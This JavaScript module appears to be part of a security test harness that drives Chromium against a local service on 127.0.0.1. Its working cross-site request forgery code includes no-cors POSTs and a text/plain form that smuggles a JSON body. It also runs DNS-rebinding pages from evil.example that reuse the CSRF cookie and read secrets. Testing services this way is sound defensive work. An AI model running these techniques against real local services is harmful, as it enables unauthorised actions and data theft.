// The same with a real browser: what a page of another site can do to 127.0.0.1, and what one can do whose name has been
// made to lead there.
import { createServer } from 'node:http';
import { readable, STEERING } from '../requests.mjs';

/** A port that takes what it is sent and never answers must not hold up the others. Milliseconds. */
const PATIENCE_MS = 10_000;

export const attacks = [
  ...STEERING.map((request) => steering(`a page in Chromium that ${request.what}`, request, fromElsewhere)),
  ...STEERING.map((request) => steering(`a rebound page in Chromium that ${request.what}`, request, rebound)),
  { name: 'a rebound page in Chromium that reads runs and histories', run: readAll },
];

function steering(name, { prepare }, send) {
  return {
    name,
    together: true,
    async run(rig) {
      const browser = rig.browser();
      if (browser === undefined) return rig.skip('there is no Chromium on PATH');
      const { requests, happened, after } = await prepare(rig);
      try {
        for (const request of requests) await send(browser, rig.listening(), request);
        return (await happened()) ? `by one of ${rig.listening().join(', ')}` : undefined;
      } finally {
        await after();
      }
    },
  };
}

/** The page sends the request to every port in every way that needs no leave: by `fetch`, and by a form. */
async function fromElsewhere(browser, targets, { path, body }) {
  const site = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html');
    response.end('<!doctype html><title>evil</title><body>');
  });
  await new Promise((resolve) => site.listen(0, '127.0.0.1', resolve));
  try {
    const page = await browser.open(`http://evil.example:${site.address().port}/`);
    const urls = targets.map((target) => `http://${target}${path}`);
    await browser.call(page, sendAll, urls, JSON.stringify(body), PATIENCE_MS);
  } finally {
    site.close();
  }
}

/** Runs in the page. */
async function sendAll(urls, body, patienceMs) {
  const patience = () => new Promise((resolve) => setTimeout(resolve, patienceMs));
  const byFetch = (url) =>
    fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body }).catch(() => undefined);
  const byForm = async (url, index) => {
    const frame = document.createElement('iframe');
    frame.name = `frame-${index}`; // before it is in the page: it is not known by a later one
    document.body.append(frame);
    const form = document.body.appendChild(document.createElement('form'));
    Object.assign(form, { method: 'POST', action: url, enctype: 'text/plain', target: frame.name });
    const field = form.appendChild(document.createElement('input'));
    // A form of this type writes name=value: the sign goes into a key that means nothing.
    Object.assign(field, { type: 'hidden', name: body.replace(/\}$/, ',"x'), value: '":1}' });
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
    form.submit();
    await loaded;
  };
  await Promise.all(urls.map((url) => Promise.race([byFetch(url), patience()])));
  await Promise.all(urls.map((url, index) => Promise.race([byForm(url, index), patience()])));
}

/** The browser takes the page for one of the service's own: nothing but the service keeps it from reading and sending. */
async function rebound(browser, targets, { path, body }) {
  const send = async (target) => {
    const page = await openRebound(browser, target, '/');
    if (page !== undefined) await browser.call(page, sendAsOwn, path, JSON.stringify(body));
  };
  await Promise.all(targets.map(send));
}

/** Runs in the page. */
async function sendAsOwn(path, body) {
  const token = /_csrf=([^;]*)/.exec(document.cookie)?.[1] ?? 'none';
  const headers = { 'content-type': 'application/json', 'x-csrf-token': token };
  await fetch(path, { method: 'POST', headers, body }).catch(() => undefined);
}

async function readAll(rig) {
  const browser = rig.browser();
  if (browser === undefined) return rig.skip('there is no Chromium on PATH');
  const victim = await rig.victim();
  try {
    for (const target of rig.listening()) {
      for (const { path, secret } of await readable(rig, victim)) {
        const page = await openRebound(browser, target, path);
        const text = page && (await browser.call(page, () => document.documentElement.outerHTML));
        if (text?.includes(secret)) return `${target}${path} answers`;
      }
    }
    return undefined;
  } finally {
    await rig.endVictim(victim);
  }
}

async function openRebound(browser, target, path) {
  const page = await browser.open(`http://evil.example:${target.split(':')[1]}${path}`);
  return page.error === undefined ? page : undefined;
}
